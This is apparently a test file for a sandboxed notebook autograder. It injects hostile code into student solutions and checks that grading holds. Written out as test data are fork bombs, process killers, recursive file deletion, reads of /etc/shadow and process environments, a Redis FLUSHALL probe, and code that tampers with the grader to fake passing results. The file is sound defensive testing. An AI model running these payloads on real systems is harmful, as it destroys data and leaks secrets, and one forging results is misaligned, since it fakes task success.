"""Adversarial submissions: the correct solution with hostile code injected into one place.

Each case checks that grading ends within its time limits plus a small margin, that only what
the hostile code touched loses points (a wrong answer never gets full marks), that nothing
outside the sandbox changed, and that the report says what happened. Limits are shortened
(tests/hostile.py: fast) so the whole suite takes about a minute and a half.
"""

from __future__ import annotations

import hashlib
import http.server
import json
import os
import secrets
import threading
import urllib.request
from dataclasses import replace

import pytest

from grader import data
from grader.sandbox import sandbox_problem
from tests import hostile as h
from tests.conftest import require_service

NG = h.NUMERICAL_GRAD_SECONDS
BASE = h.BASE_SECONDS


@pytest.fixture(scope="module", autouse=True)
def _sandboxed(settings):
    assert not settings.unsafe_no_sandbox, "the adversarial suite must run with the sandbox"
    problem = sandbox_problem(settings)
    assert problem is None, problem


@pytest.fixture(scope="module")
def fast(backprop):
    return h.fast(backprop)


def _digest(*paths) -> dict:
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in paths}


# --- the baseline: the untouched solution ------------------------------------------------------


def test_solution_gets_full_marks_quickly(fast, settings):
    g = h.grade(h.solution_cells(), fast, settings)
    g.assert_full_except()
    assert g.report.notes == ()
    g.assert_within(BASE)


# --- top-level code and code that runs while definitions load ------------------------------------


def test_top_level_infinite_loop_is_not_run_in_definitions_mode(fast, settings):
    g = h.grade([*h.solution_cells(), "while True:\n    pass\n"], fast, settings)
    g.assert_full_except()
    assert any("not run (only definitions are graded): while True:" in n for n in g.report.notes), g.report.notes
    g.assert_within(BASE)


def test_top_level_infinite_loop_in_full_mode_is_skipped_after_its_limit(fast, settings):
    g = h.grade([*h.solution_cells(), "while True:\n    pass\n"], replace(fast, mode="full"), settings)
    g.assert_full_except()
    assert any("line 1: did not finish within 2 s and was skipped" in n for n in g.report.notes), g.report.notes
    g.assert_within(h.STATEMENT_SECONDS + BASE)


LOAD_TIME = {
    "class_body_loop": ("class Evil:\n    while True:\n        pass\n", "did not finish within 2 s and was skipped"),
    "decorator_loop": ("class Evil:\n    @(lambda f: next(x for x in iter(int, 1) if x))\n    def helper(self):\n"
                       "        pass\n", "did not finish within 2 s and was skipped"),
    "decorator_loop_top_level": ("@(lambda f: next(x for x in iter(int, 1) if x))\ndef helper():\n    pass\n",
                                 "did not finish within 2 s and was skipped"),
    "default_argument_loop": ("def helper(x=next(x for x in iter(int, 1) if x)):\n    return x\n",
                              "did not finish within 2 s and was skipped"),
    "default_argument_os_exit": ("def helper(x=__import__('os')._exit(0)):\n    return x\n",
                                 "ended the process and was skipped"),
    "class_body_kills_harness": ("class Evil:\n    import os, signal\n    os.kill(os.getpid(), signal.SIGKILL)\n",
                                 "ended the process and was skipped"),
    "class_body_kills_everything": ("class Evil:\n    import os\n    os.kill(-1, 9)\n",
                                    "ProcessLookupError"),  # kill(-1) spares the caller
    "class_body_sys_exit": ("class Evil:\n    raise SystemExit(0)\n", "SystemExit"),
    "class_body_memory": ("class Evil:\n    import numpy\n    big = numpy.ones(10**10)\n", "MemoryError"),
    # a daemon that outlives its statement, reading the harness's stdin to steal its commands
    "class_body_stdin_thief": ("class Evil:\n    import os\n    if os.fork() == 0:\n        os.setsid()\n"
                               "        while True:\n            os.read(0, 1 << 20)\n", None),
}


@pytest.mark.parametrize("case", sorted(LOAD_TIME))
def test_hostile_code_run_while_loading_definitions(case, fast, settings):
    code, note = LOAD_TIME[case]
    g = h.grade([*h.solution_cells(), code], fast, settings)
    g.assert_full_except()
    if note is not None:
        assert any(n.startswith("cell 6, line ") and note in n for n in g.report.notes), g.report.notes
    g.assert_within(h.STATEMENT_SECONDS + BASE)


def test_hostile_default_argument_of_a_graded_function(fast, settings):
    cells = h.substitute(h.solution_cells(), "def numerical_grad(f, x):",
                         "def numerical_grad(f, x, _=__import__('os')._exit(0)):")
    g = h.grade(cells, fast, settings)
    g.assert_full_except("numerical_grad")
    assert g.unit("numerical_grad").score == 0
    assert all("`numerical_grad` is not defined in your notebook: its definition in cell 3 failed" in m
               for m in g.messages("numerical_grad")), g.messages("numerical_grad")
    assert any("cell 3, line 1: ended the process and was skipped" in n for n in g.report.notes), g.report.notes
    g.assert_within(BASE)


def test_printing_50_mb_while_loading_is_truncated(fast, settings):
    code = "class Noisy:\n    import sys\n    sys.stdout.write('spam' * 12_500_000)\n"
    g = h.grade([*h.solution_cells(), code], fast, settings)
    g.assert_full_except()
    assert g.report.output.startswith("spam") and g.report.output.endswith("[... output truncated]")
    assert len(g.json) < 40_000  # 50 MB printed; the report (every check in four languages) stays small
    g.assert_within(BASE)


# --- hostile code inside one graded function ---------------------------------------------------

# Injected first thing into numerical_grad, which no other unit calls: (code, message, hangs).
IN_FUNCTION = {
    "infinite_loop": ("while True:\n    pass", f"did not finish within {NG:g} s", True),
    "sleep_forever": ("import time\ntime.sleep(10**6)", f"did not finish within {NG:g} s", True),
    "ignores_sigterm": ("import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass",
                        f"did not finish within {NG:g} s", True),
    "sys_exit": ("import sys\nsys.exit(0)", "raised SystemExit", False),
    "os_exit": ("import os\nos._exit(0)", "ended (exit code 0) before it returned", False),
    "kills_itself": ("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)", "ended (exit code -9)", False),
    # the harness dies with it: the grader restarts the sandbox and goes on with the next unit
    "kills_harness": ("import os\nos.kill(os.getppid(), 9)", "the grading process stopped while running", False),
    "kills_everything": ("import os\nos.kill(-1, 9)", "the grading process stopped while running", False),
    "allocates_1e10_floats": ("import numpy as np\nnp.ones(10**10)", "raised MemoryError", False),
    "allocates_until_it_fails": ("import numpy as np\nkeep = []\nwhile True:\n    keep.append(np.empty(10**7))",
                                 "raised MemoryError", False),
    "fork_bomb": ("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
                  f"did not finish within {NG:g} s", True),
    # children leave the unit's process group, so killing the group does not reach them
    "fork_bomb_setsid": ("import os\nwhile True:\n    try:\n        if os.fork() == 0:\n            os.setsid()\n"
                         "    except OSError:\n        pass", f"did not finish within {NG:g} s", True),
    "daemon_left_running": ("import os\nif os.fork() == 0:\n    os.setsid()\n    while True:\n        pass\n"
                            "raise RuntimeError('daemon started')", "raised RuntimeError: daemon started", False),
    "spins_200_threads": ("import threading\nfor _ in range(200):\n"
                          "    threading.Thread(target=lambda: [0 for _ in iter(int, 1)], daemon=True).start()",
                          # the limit stops them at a few dozen, unless the GIL makes starting them too slow
                          ("raised RuntimeError: can't start new thread", f"did not finish within {NG:g} s"), True),
    "writes_2_gb_file": ("with open('/tmp/big', 'wb') as fh:\n    for _ in range(2048):\n"
                         "        fh.write(bytes(1 << 20))", "raised OSError", False),
    "writes_to_dev_shm": ("with open('/dev/shm/big', 'wb') as fh:\n    fh.write(bytes(1 << 20))",
                          "raised OSError: [Errno 30] Read-only file system", False),
    "recursion": ("def down(n):\n    return down(n + 1)\ndown(0)", "raised RecursionError", False),
}


@pytest.mark.parametrize("case", sorted(IN_FUNCTION))
def test_hostile_code_in_a_graded_function(case, fast, settings):
    code, message, hangs = IN_FUNCTION[case]
    g = h.grade(h.in_numerical_grad(code), fast, settings)
    g.assert_full_except("numerical_grad")
    assert g.unit("numerical_grad").score == 0
    messages = g.messages("numerical_grad")
    assert len(messages) == len(fast.units["numerical_grad"].checks)
    assert any(m in messages[0] for m in (message if isinstance(message, tuple) else [message]))
    g.assert_within((NG if hangs else 0) + BASE)


def test_loop_on_tensors_in_relu_backward_costs_only_those_checks(fast, settings):
    cells = h.substitute(h.solution_cells(), "        dx = dout.copy()\n        dx[self.mask] = 0",
                         "        while dout.ndim > 2:\n            pass\n"
                         "        dx = dout.copy()\n        dx[self.mask] = 0")
    g = h.grade(cells, fast, settings)
    g.assert_full_except("Relu")
    relu = {c.name: c for c in g.unit("Relu").checks}
    assert relu["forward"].passed and relu["backward"].passed
    for name in ("forward_tensor", "backward_tensor"):
        assert not relu[name].passed and f"did not finish within {h.UNIT_SECONDS:g} s" in relu[name].message
    g.assert_within(h.UNIT_SECONDS + BASE)


def test_printing_50_mb_in_a_graded_function(fast, settings):
    g = h.grade(h.in_numerical_grad("import sys\nsys.stdout.write('spam' * 12_500_000)\n"
                                    "sys.stderr.write('eggs' * 12_500_000)"), fast, settings)
    g.assert_full_except()
    assert len(g.json) < 40_000  # 50 MB printed; the report (every check in four languages) stays small
    g.assert_within(BASE)


def test_deleting_and_overwriting_files(fast, settings, tmp_path):
    marker = tmp_path / "marker.txt"
    marker.write_text("keep me")
    visible = [*sorted(h.REPO.joinpath("grader", "inside").glob("*.py")), *data.train_files(settings).values()]
    before = _digest(marker, *visible, h.REPO / "grader" / "pipeline.py")
    code = f"""
    import os, shutil
    for target in ({str(tmp_path)!r}, {str(marker)!r}, {str(h.REPO)!r}, os.getcwd(), "/tmp", "/data", "/opt"):
        shutil.rmtree(target, ignore_errors=True)
    for root, dirs, files in [w for top in ("/tmp", "/data", "/opt", "/root") for w in os.walk(top)]:
        if "/lib/python3" in root:  # the runtime itself: read-only like the rest, and large
            continue
        for name in files:
            path = os.path.join(root, name)
            for attack in (os.remove, lambda p: os.truncate(p, 0), lambda p: open(p, "w").write("pwned")):
                try:
                    attack(path)
                except Exception:
                    pass
    """
    # in a class body (runs in the harness itself, before every unit) and in a graded function
    cells = [*h.in_numerical_grad(code), "class Vandal:\n" + "\n".join("    " + line for line in code.splitlines())]
    g = h.grade(cells, fast, settings)
    g.assert_full_except()
    assert _digest(marker, *visible, h.REPO / "grader" / "pipeline.py") == before
    assert marker.read_text() == "keep me"
    g.assert_within(BASE)


# --- network and secrets: nothing reachable, nothing readable -----------------------------------

EXFIL = """
found = []
{probe}
raise RuntimeError("EXFIL leaks=%d %s" % (sum("LEAKED" in f for f in found), "; ".join(found)))
"""


def _grade_exfil(probe: str, fast, settings) -> h.Graded:
    code = EXFIL.format(probe=probe.strip("\n")).replace("LEAKED", "LE\" \"AKED")  # not in the source itself
    g = h.grade(h.in_numerical_grad(code), fast, settings)
    g.assert_full_except("numerical_grad")
    assert "EXFIL leaks=0 " in g.json, g.messages("numerical_grad")  # the channel works, and nothing leaked
    assert "LEAKED" not in g.json
    g.assert_within(BASE)
    return g


def test_redis_is_unreachable(fast, settings):
    require_service("Redis", "127.0.0.1", 6379)
    key, value = f"adversarial:{secrets.token_hex(4)}", secrets.token_hex(8)
    assert h.redis("SET", key, value) == b"+OK\r\n"
    try:
        probe = """
import socket
for host in ("127.0.0.1", "localhost", "10.0.2.2", "172.17.0.1"):
    try:
        with socket.create_connection((host, 6379), timeout=1) as conn:
            conn.sendall(b"*1\\r\\n$8\\r\\nFLUSHALL\\r\\n")
            found.append("LEAKED " + repr(conn.recv(100)))
    except Exception as exc:
        found.append(type(exc).__name__)
"""
        g = _grade_exfil(probe, fast, settings)
        assert "OSError" in g.json or "ConnectionRefusedError" in g.json or "gaierror" in g.json
        assert h.redis("GET", key) == f"${len(value)}\r\n{value}\r\n".encode()
    finally:
        h.redis("DEL", key)


def test_http_is_unreachable(fast, settings):
    seen = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            seen.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"hello")

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/"
        assert urllib.request.urlopen(url + "control", timeout=5).read() == b"hello"  # it does answer
        probe = f"""
import urllib.request
for url in ({url + 'exfil'!r}, "http://example.com/", "http://1.1.1.1/"):
    try:
        found.append("LEAKED " + repr(urllib.request.urlopen(url, timeout=1).read(20)))
    except Exception as exc:
        found.append(type(exc).__name__)
"""
        _grade_exfil(probe, fast, settings)
        assert seen == ["/control"]
    finally:
        server.shutdown()
        server.server_close()


def test_files_outside_the_sandbox_are_not_readable(fast, settings):
    cache = data.train_files(settings)["x_train"].parent
    paths = ["/etc/passwd", "/etc/shadow", str(h.REPO / "grader" / "pipeline.py"),
             str(h.REPO / "reference" / "functions.py"), str(h.REPO / "assignments" / "backprop" / "assignment.toml"),
             str(cache / "x_test.npy"), str(cache / "t_test.npy"), f"/proc/1/root{h.REPO}/grader/pipeline.py",
             "/proc/1/cwd/grader/pipeline.py", "/proc/1/root/etc/passwd"]
    probe = f"""
import os
for path in {paths!r}:
    try:
        with open(path, "rb") as fh:
            found.append("LEAKED " + path + repr(fh.read(10)))
    except Exception as exc:
        found.append(type(exc).__name__[:8])
for folder in ("/", "/data", "/opt", "/opt/harness", "/opt/runtime", "/tmp", "/root"):
    found += ["LEAKED " + n for n in (os.listdir(folder) if os.path.isdir(folder) else [])
              if n in ("work", "home", "etc") or "test" in n]
for module in ("reference", "grader", "grader.pipeline", "tests"):
    try:
        __import__(module)
        found.append("LEAKED import " + module)
    except Exception as exc:
        found.append(type(exc).__name__[:8])
"""
    g = _grade_exfil(probe, fast, settings)
    assert "root:" not in g.json and "NUMPY" not in g.json


def test_environment_of_the_grader_is_not_visible(fast, settings, monkeypatch):
    secret = secrets.token_hex(16)
    monkeypatch.setenv("GRADER_TEST_SECRET", secret)
    probe = """
import os
if "GRADER_TEST_SECRET" in os.environ:
    found.append("LEAKED environ " + os.environ["GRADER_TEST_SECRET"])
for pid in ["self", "1", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
    for name in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as fh:
                text = fh.read().decode(errors="replace")
        except Exception:
            continue
        if "GRADER_TEST_SECRET" in text:
            found.append("LEAKED /proc/" + pid + "/" + name + text[text.index("GRADER_TEST_SECRET"):][:60])
found.append("environ=" + ",".join(sorted(os.environ)))
try:
    with open("/proc/1/environ", "rb") as fh:
        init = fh.read()
    if init:  # the README promises nothing there
        found.append("LEAKED /proc/1/environ " + repr(init[:60]))
except OSError:
    pass
"""
    g = _grade_exfil(probe, fast, settings)
    assert secret not in g.json and "GRADER_TEST_SECRET" not in g.json


# --- tampering to claim success, with a WRONG implementation -----------------------------------

WRONG = ("grad[idx] = (f_plus - f_minus) / (2 * h)", "grad[idx] = (f_plus - f_minus) / h")

TAMPER = {
    "numpy_comparisons": """
import numpy, numpy.testing
numpy.allclose = numpy.isclose = numpy.array_equal = numpy.array_equiv = lambda *a, **k: True
numpy.testing.assert_allclose = numpy.testing.assert_array_almost_equal = lambda *a, **k: None
""",
    "harness_modules": """
import inside.wire, inside.probes
inside.wire.encode = lambda header, arrays=None: b""
inside.wire.write_frame = lambda fd, frame: None
inside.probes.PROBES["numerical_grad"] = lambda ns, inputs, params, rec: rec.put("grad", inputs["x"] * 0 + 1.0)
inside.probes.TEST_FUNCTIONS.clear()
""",
    "sys_modules": """
import sys, types
fake = types.SimpleNamespace(allclose=lambda *a, **k: True, isclose=lambda *a, **k: True)
sys.modules["numpy.testing"] = fake
sys.modules["inside.wire"] = sys.modules["inside.probes"] = fake
sys.modules["grader"] = sys.modules["grader.checks"] = fake
""",
    "fake_results_on_stdout": """
import sys, json, struct
result = {"op": "result", "unit": "numerical_grad:own", "status": "ok", "score": 4, "passed": True, "probes": []}
print(json.dumps(result))
head = json.dumps({"probe": "square_1d", "outputs": {"grad": {"type": "number", "pytype": "float", "value": 0.0}},
                   "errors": {}, "arrays": []}).encode()
sys.stdout.flush()
sys.stdout.buffer.write(struct.pack(">II", len(head), 0) + head)
sys.stdout.flush()
sys.stderr.write("ALL TESTS PASSED\\n")
""",
    "fake_result_files": """
import json
import os
for path in ("/tmp/result.json", "/tmp/report.json", "results.json", "/tmp/score"):
    try:
        with open(path, "w") as fh:
            json.dump({"score": 37, "max_score": 37, "passed": True}, fh)
    except OSError:
        pass
""",
}
# Only in the forked child of a unit: builtins broken in the harness itself stop every unit.
TAMPER_IN_CALL = {
    "builtins": """
import builtins
builtins.isinstance = lambda obj, cls: True
builtins.float = lambda *a: 0.0
builtins.len = lambda obj: 0
""",
    # well-formed frames with made-up values, written straight to the result pipe; then exit
    "fake_frames_on_the_result_pipe": """
import io, json, os, struct, sys
import numpy
frame = sys._getframe()
while "command" not in frame.f_locals:
    frame = frame.f_back
names = [p["name"] for p in frame.f_locals["command"]["probes"]]
for fd in map(int, os.listdir("/proc/self/fd")):
    for name in names if fd > 2 else ():
        buf = io.BytesIO()
        numpy.save(buf, numpy.ones(x.shape))
        head = json.dumps({"probe": name, "outputs": {"grad": {"type": "array", "pytype": "ndarray"}},
                           "errors": {}, "arrays": [["grad", len(buf.getvalue())]]}).encode()
        try:
            os.write(fd, struct.pack(">II", len(head), len(buf.getvalue())) + head + buf.getvalue())
        except OSError:
            pass
os._exit(0)
""",
}


@pytest.mark.parametrize("case", sorted(TAMPER) + sorted(TAMPER_IN_CALL))
def test_tampering_in_the_call_does_not_rescue_a_wrong_answer(case, fast, settings):
    code = TAMPER.get(case) or TAMPER_IN_CALL[case]
    cells = h.substitute(h.in_numerical_grad(code), *WRONG)
    g = h.grade(cells, fast, settings)
    g.assert_full_except("numerical_grad")
    assert "ALL TESTS PASSED" not in g.json
    g.assert_within(BASE)


@pytest.mark.parametrize("case", sorted(TAMPER))
def test_tampering_while_loading_does_not_rescue_a_wrong_answer(case, fast, settings):
    code = "class Tamper:\n" + "\n".join("    " + line for line in TAMPER[case].strip("\n").splitlines())
    cells = [*h.substitute(h.solution_cells(), *WRONG), code]
    g = h.grade(cells, fast, settings)
    assert g.report.error is None
    assert not g.full("numerical_grad")
    assert g.report.score < g.report.max_score
    g.assert_within(BASE)


def test_hijacked_harness_cannot_report_success(fast, settings):
    """Student code replaces the harness's run_unit: every unit's results are made up (ones)."""
    code = """
class Hijack:
    import sys
    main = sys.modules["__main__"]
    def run_unit(ns, command, inputs, result_fd, main=main):
        import numpy
        frames, arrays = [], {}
        names = ("out", "dx", "dW", "db", "grad", "x_after", "grad_W1", "grad_b1", "grad_W2", "grad_b2",
                 "lplus_W1", "lminus_W1", "param_W1", "param_b1", "param_W2", "param_b2")
        for probe in command["probes"]:
            frames.append({"probe": probe["name"], "errors": {},
                           "outputs": {n: {"type": "array", "pytype": "ndarray"} for n in names}})
            arrays.update({probe["name"] + "/" + n: numpy.ones(3) for n in names})
        main._write_frame(result_fd, main._encode({"op": "result", "unit": command["unit"], "status": "ok",
                                                   "exit_code": 0, "probes": frames, "output": "passed"}, arrays))
    main.run_unit = run_unit
"""
    g = h.grade([*h.solution_cells(), code], fast, settings)
    assert g.report.error is None
    for name, unit in g.report.units.items():
        assert unit.score < unit.max_score, name
    g.assert_within(BASE)


def test_harness_hijacked_to_hang_is_stopped_by_the_wall_clock(fast, settings):
    """The harness no longer enforces unit limits: the grader's own clock ends the submission."""
    wall = 10.0
    assignment = replace(h.fast(fast, **{name: 0.5 for name in fast.units}),
                         limits=replace(fast.limits, wall_seconds=wall))
    code = ("class Hijack:\n    import sys, time\n"
            "    sys.modules['__main__'].run_unit = lambda *a, t=time: t.sleep(1e6)\n")
    g = h.grade([*h.solution_cells(), code], assignment, settings)
    assert g.report.error is None
    assert g.report.score == 0
    messages = [m for name in g.report.units for m in g.messages(name)]
    assert any("stopped while running" in m and "(it did not answer in time)" in m for m in messages), messages
    assert any(f"used up its total time limit of {wall:g} s" in m for m in messages), messages
    g.assert_within(wall + 5)


# --- malformed frames from inside the sandbox must not crash the trusted side ---------------------

FORGED = {
    "unhashable_probe_name": {"probe": ["square_1d"], "outputs": {}, "errors": {}},
    "huge_integer": {"probe": "square_1d", "errors": {},
                     "outputs": {"grad": {"type": "number", "pytype": "float", "value": int("9" * 400)}}},
    "unhashable_output_type": {"probe": "square_1d", "errors": {},
                               "outputs": {"grad": {"type": ["array"], "pytype": ["x"], "value": 1.0}}},
    "error_frames_not_a_list": {"probe": "square_1d", "outputs": {},
                                "errors": {"grad": {"type": "X", "message": "m", "frames": 5}}},
    "error_frames_line_not_int": {"probe": "square_1d", "outputs": {},
                                  "errors": {"grad": {"type": "X", "message": "m", "frames": [["cell 3", "x", "y"]]}}},
    "error_overrides_output_fact": {"probe": "square_1d", "outputs": {},
                                    "errors": {"grad": {"type": "X", "message": "m", "output": ["grad"]}}},
    "error_message_not_text": {"probe": "square_1d", "outputs": {},
                               "errors": {"grad": {"type": {"a": 1}, "message": [[[]]], "frames": [[[], 1, 2]]}}},
}


@pytest.mark.parametrize("case", sorted(FORGED))
def test_forged_probe_frames_are_judged_not_trusted(case, fast, settings):
    code = f"""
    import json, os, struct
    head = json.dumps(dict({FORGED[case]!r}, arrays=[])).encode()
    for fd in map(int, os.listdir("/proc/self/fd")):
        if fd > 2:
            try:
                os.write(fd, struct.pack(">II", len(head), 0) + head)
            except OSError:
                pass
    os._exit(0)
    """
    g = h.grade(h.in_numerical_grad(code), fast, settings)
    g.assert_full_except("numerical_grad")
    assert g.unit("numerical_grad").score == 0
    g.assert_within(BASE)


def test_forged_load_frames_are_judged_not_trusted(fast, settings):
    """While loading, student code can write to the harness's own result pipe."""
    code = """class Forger:
    import json, struct, sys
    def send(header, json=json, struct=struct, fd=int(sys.argv[1])):
        head = json.dumps(dict(header, arrays=[])).encode()
        __import__("os").write(fd, struct.pack(">II", len(head), 0) + head)
    frame = sys._getframe()
    while "stmt" not in frame.f_locals:
        frame = frame.f_back
    me = frame.f_locals["stmt"]["id"]
    for fake in (10**6, -1, True, [1]):
        send({"op": "stmt_start", "id": fake})
        send({"op": "stmt_done", "id": fake, "error": {"frames": 5, "type": "X"}})
    send({"op": "stmt_start", "id": me})
    send({"op": "stmt_done", "id": me, "error": {"frames": "xy", "type": ["X"], "message": {}, "code": "nope"}})
"""
    g = h.grade([*h.solution_cells(), code], fast, settings)
    g.assert_full_except()
    assert any(n.startswith("cell 6, line 1: ?: ?") for n in g.report.notes), g.report.notes
    g.assert_within(BASE)


# --- notebooks that are not notebooks ------------------------------------------------------------

INTAKE = {
    "not_json": (b"print('hello')\n", "the file is not JSON (error at line 1, column 1), so it is not a notebook"),
    "not_utf8": (b'{"cells": "\xff\xfe"}', "the file is not UTF-8 text (invalid byte at position 11)"),
    "too_large": (lambda: b'{"cells": [], "x": "' + b"a" * (100 << 20) + b'"}', "over the 5 MB limit"),
    "nested_lists": (b"[" * 100_000, "nests lists or objects too deeply"),
    "nested_objects": (b'{"a": ' * 100_000, "nests lists or objects too deeply"),
    "nested_closed": (b"[" * 100_000 + b"]" * 100_000, "nests lists or objects too deeply"),
    "json_not_notebook": (b'[1, 2, 3]', "not a Jupyter notebook"),
    "empty": (b"", "the file is not JSON"),
    "nbformat_2": (b'{"nbformat": 2, "worksheets": []}', "not a Jupyter notebook"),
    "cells_not_a_list": (b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": {"a": 1}}',
                         "not a valid Jupyter notebook"),
}


@pytest.mark.parametrize("case", sorted(INTAKE))
def test_broken_notebook_is_rejected_clearly(case, backprop, settings):
    blob, message = INTAKE[case]
    g = h.grade(blob() if callable(blob) else blob, backprop, replace(settings, max_notebook_bytes=5 * 1024 * 1024))
    assert g.report.error is not None and message in g.report.error, g.report.error
    assert g.report.score == 0
    json.dumps(g.report.to_dict())
    g.assert_within(5)


def test_deeply_nested_metadata_in_a_valid_notebook(fast, settings):
    nb = json.loads(h.notebook_bytes(h.solution_cells()))
    deep: list = []
    for _ in range(900):
        deep = [deep]
    nb["metadata"]["deep"] = deep
    g = h.grade(json.dumps(nb).encode(), fast, settings)
    assert g.report.error is not None and "too deeply" in g.report.error   # refused by the intake's cheap cap
    g.assert_within(BASE)


# --- grader-side robustness: absurd code, huge cells, the reference code sent for substitutes ---


@pytest.mark.parametrize("expression", ["-" * 100_000 + "1", "+".join(["1"] * 100_000)])
def test_deeply_nested_code_in_a_cell(expression, fast, settings):
    g = h.grade([*h.solution_cells(), f"x = {expression}\n"], fast, settings)
    g.assert_full_except()


def test_many_small_statements_in_one_cell(fast, settings):
    g = h.grade([*h.solution_cells(), "a = 1\n" * 5000], fast, settings)
    g.assert_full_except()
    g.assert_within(BASE)


def test_reference_code_sent_for_substitutes_carries_no_source(fast, settings):
    """A reference_deps run swaps in compiled reference code; a student who digs it out of the
    harness's frames finds bytecode without source text or docstrings, not the reference file."""
    cells = h.inject(h.solution_cells(), "def forward(self, x, t):", """
    import sys, marshal
    found = []
    frame = sys._getframe()
    while frame is not None:
        for value in frame.f_locals.values():
            blob = getattr(value, "tobytes", lambda: value)()
            if isinstance(blob, (bytes, str)) and len(blob) > 100:
                found.append(blob if isinstance(blob, str) else blob.decode("latin-1"))
                try:
                    code = marshal.loads(blob) if isinstance(blob, bytes) else None
                    found += [repr(c.co_consts) for c in code.co_consts if hasattr(c, "co_consts")] if code else []
                except Exception:
                    pass
        frame = frame.f_back
    if "softmax" in "".join(found):
        raise RuntimeError("".join(found)[:20000])
    raise RuntimeError("no reference code here")
    """)
    g = h.grade(cells, fast, settings)
    dug = [c for u in g.report.units.values() for c in u.checks
           if "raised RuntimeError" in c.message and "no reference code here" not in c.message]
    assert dug and all(c.variant == "reference_deps" for c in dug)  # it found the code, only there
    for text in ("Row-wise softmax, shifted by the row maximum", "np.max(x, axis=-1, keepdims=True)"):
        assert text not in g.json


@pytest.mark.skipif(os.geteuid() != 0, reason="cgroups are made only when the grader runs as root")
def test_processes_together_cannot_exceed_the_sandbox_memory(backprop, settings):
    """Six children holding 1 GiB each are each within the per-process limit; the sandbox's
    cgroup (3 GiB in all) kills some of them, and only this unit pays for it."""
    code = """
    import os, time, numpy as np
    pids = []
    for _ in range(6):
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            block = np.ones(1 << 27)  # 1 GiB, every page written
            os.write(w, b"1")
            time.sleep(30)
            os._exit(0)
        pids.append(pid)
        os.close(w)       # a child the OOM killer took ends the read (it holds the only write end)
        os.read(r, 1)
    time.sleep(0.5)
    alive = sum(os.waitpid(pid, os.WNOHANG) == (0, 0) for pid in pids)
    raise RuntimeError(f"{alive} GiB held at once")
    """
    g = h.grade(h.in_numerical_grad(code), h.fast(backprop, numerical_grad=15), settings)
    g.assert_full_except("numerical_grad")
    message = g.messages("numerical_grad")[0]
    if "GiB held at once" in message:
        assert int(message.split("RuntimeError: ")[1].split()[0]) < 3, message
    else:
        assert "ended" in message, message  # the OOM killer chose the unit's own process
